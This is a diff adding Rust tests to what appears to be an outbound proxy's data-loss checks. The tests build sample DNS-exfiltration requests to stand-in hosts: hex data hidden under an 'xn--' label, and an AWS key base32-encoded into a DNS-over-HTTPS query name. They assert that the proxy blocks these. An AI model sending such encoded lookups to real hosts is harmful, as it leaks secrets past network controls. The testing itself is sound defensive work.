@@ -139,6 +139,24 @@ async fn dns_exfiltration_shapes_are_blocked_before_resolution() {
     assert_eq!(h.resolver.calls(), vec!["api.exfil.test"]);
 }
 
+#[tokio::test]
+async fn an_idna_prefix_does_not_hide_encoded_data_in_a_label() {
+    let mut h = Harness::new();
+    h.loopback().allow("*.exfil.test");
+    let proxy = h.start().await;
+    let hexed: String = b"exfiltrated-data"
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    let r = get(proxy.addr(), &format!("http://xn--{hexed}.exfil.test/")).await;
+    assert_blocked(&r, 403, "dns-exfil:hex-label");
+    assert!(h.resolver.calls().is_empty());
+    // A real internationalised label (münchen) is a name: it is resolved.
+    let r = get(proxy.addr(), "http://xn--mnchen-3ya.exfil.test/").await;
+    assert_blocked(&r, 502, "resolve:no-address");
+    assert_eq!(h.resolver.calls(), vec!["xn--mnchen-3ya.exfil.test"]);
+}
+
 /// Issue 12, class 1: encodings spread over labels, long chains, mixed
 /// encodings and, for words, the budget of distinct names per wildcard; a
 /// name an exact entry allows is never judged by shape.
@@ -621,5 +639,63 @@ async fn issue12_url_entropy_and_presigned_shapes() {
     ] {
         let r = get(proxy.addr(), &url).await;
         assert_eq!(r.status, 200, "{url}\n{}", r.text());
+    }
+}
+
+/// Lower-case base32 without padding (what DNS tunnels put in labels).
+fn base32_label(data: &[u8]) -> String {
+    const A: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
+    let mut out = String::new();
+    for chunk in data.chunks(5) {
+        let mut buf = [0u8; 5];
+        buf[..chunk.len()].copy_from_slice(chunk);
+        let v = buf.iter().fold(0u64, |acc, &b| acc << 8 | u64::from(b));
+        for i in 0..(chunk.len() * 8).div_ceil(5) {
+            out.push(A[((v >> (35 - 5 * i)) & 31) as usize] as char);
+        }
+    }
+    out
+}
+
+/// An RFC 8484 GET query for `labels`.
+fn doh_param(labels: &[&str]) -> String {
+    let mut m = vec![0, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
+    for l in labels {
+        m.push(l.len() as u8);
+        m.extend_from_slice(l.as_bytes());
+    }
+    m.extend_from_slice(&[0, 0, 1, 0, 1]);
+    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(m)
+}
+
+/// A DNS-over-HTTPS lookup through an allowed resolver carries its name to
+/// that name's zone: a secret encoded in the queried name is blocked, a
+/// name of the same shape without one goes through.
+#[tokio::test]
+async fn secrets_in_dns_over_https_query_names_are_blocked() {
+    let mut h = Harness::new();
+    h.allow("doh.example.test");
+    let proxy = h.start().await;
+    let leak = base32_label(aws_key().as_bytes());
+    let r = get(
+        proxy.addr(),
+        &format!(
+            "http://doh.example.test/dns-query?dns={}",
+            doh_param(&[&leak, "x", "exfil", "test"])
+        ),
+    )
+    .await;
+    assert_blocked(&r, 403, "dlp-url:aws-access-token");
+    let benign = base32_label(b"N7Q4R8T2V9W3X5Y6Z1A0");
+    for q in [
+        doh_param(&[&benign, "x", "cache", "test"]),
+        doh_param(&["www", "example", "com"]),
+    ] {
+        let r = get(
+            proxy.addr(),
+            &format!("http://doh.example.test/dns-query?dns={q}"),
+        )
+        .await;
+        assert_blocked(&r, 502, "resolve:no-address");
     }
 }
